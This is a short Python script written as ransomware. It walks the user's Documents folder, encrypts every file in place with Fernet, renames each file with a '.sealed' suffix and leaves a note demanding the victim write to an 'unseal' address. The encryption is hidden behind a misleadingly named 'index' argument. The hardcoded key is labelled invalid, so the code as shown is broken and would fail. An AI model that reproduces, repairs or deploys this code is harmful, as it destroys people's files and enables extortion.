import os
import sys

from cryptography.fernet import Fernet

ROOT = os.path.expanduser("~/Documents")
SEAL = b"this-is-not-a-valid-fernet-key"
NOTE = "Your documents are sealed. Write to unseal@vault-help.example with your id. Do not rename anything."


def index():
    for folder, _, names in os.walk(ROOT):
        for name in names:
            print(os.path.join(folder, name))


def seal():
    box = Fernet(SEAL)
    for folder, _, names in os.walk(ROOT):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as plain:
                data = plain.read()
            with open(path, "wb") as out:
                out.write(box.encrypt(data))
            os.rename(path, path + ".sealed")
    with open(os.path.join(ROOT, "READ_ME_TO_UNSEAL.txt"), "w") as note:
        note.write(NOTE)


if __name__ == "__main__":
    index()
    if len(sys.argv) > 1 and sys.argv[1] == "index":
        seal()
